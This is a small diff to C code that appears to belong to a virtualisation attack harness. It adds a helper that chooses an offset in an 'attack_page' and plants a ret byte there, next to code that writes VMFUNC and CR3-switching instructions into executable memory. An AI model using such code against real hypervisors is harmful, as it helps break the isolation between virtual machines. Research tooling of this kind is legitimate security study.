@@ -75,6 +75,12 @@ static void put_way_back(u8 *at)
 	memcpy(at + sizeof(jump), &target, sizeof(target));
 }
 
+/* Away from what page_aim() writes. */
+unsigned int page_warm(unsigned int offset)
+{
+	return offset < PAGE_SIZE / 2 ? PAGE_SIZE - 0x100 : 0x700;
+}
+
 void page_aim(struct attack_page *page, unsigned int offset, bool late_cr3)
 {
 	u8 *at = page->code + PAGE_SIZE + offset - sizeof(vmfunc);
@@ -83,6 +89,7 @@ void page_aim(struct attack_page *page, unsigned int offset, bool late_cr3)
 	put_way_back(page->code + PAGE_SIZE + GATE_LEAVE_OFFSET);
 	put_way_back(page->code + PAGE_SIZE + SM_VA_RETURN);
 	memcpy(at, vmfunc, sizeof(vmfunc));
+	page->code[PAGE_SIZE + page_warm(offset)] = 0xc3; /* ret */
 	if (late_cr3)
 		memcpy(at - sizeof(mov_cr3_r8), mov_cr3_r8, sizeof(mov_cr3_r8));
 }
